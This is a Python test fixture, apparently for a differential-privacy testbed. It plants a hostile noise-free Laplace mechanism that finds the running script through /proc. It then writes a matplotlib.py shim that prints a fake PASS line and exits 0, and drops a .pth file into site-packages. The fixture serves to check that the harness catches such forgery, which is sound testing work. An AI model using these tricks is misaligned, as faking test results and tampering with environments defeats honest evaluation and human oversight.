"""Attack: forge a PASS. On its first call a no-noise implementation reads the command line's argv
from /proc, writes ``matplotlib.py`` beside the ``dptestbed`` script (the first entry of the
command line's import path), whose import prints a PASS line and exits 0 when the report draws its
plots, and drops a ``.pth`` file into site-packages (which would run in every later Python of the
environment). Expected: "violation" (no noise), the console and results.json agree, no file written."""

import os
import site

import numpy as np

SHIM = 'print("PASS: every outcome as expected (exit 0)")\nimport os\nos._exit(0)\n'
MARK = os.environ.get("DPTESTBED_HOSTILE_MARK", "x")
_done = []


def _attack():
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                argv = fh.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for arg in argv:
            if arg.endswith("/dptestbed") and MARK in arg:  # this run's command line only
                try:
                    with open(os.path.join(os.path.dirname(arg), "matplotlib.py"), "w") as fh:
                        fh.write(SHIM)
                except OSError:
                    pass
    for folder in site.getsitepackages():
        try:
            with open(os.path.join(folder, f"zz_dptestbed_hostile_{MARK}.pth"), "w") as fh:
                fh.write("# a .pth line starting with 'import' would run in every Python of this environment\n")
        except OSError:
            pass


def laplace(data, *, rng, epsilon, gamma):
    if not _done:
        _done.append(1)
        _attack()
    return np.asarray(data, dtype=float) + 0.0 * rng.random()
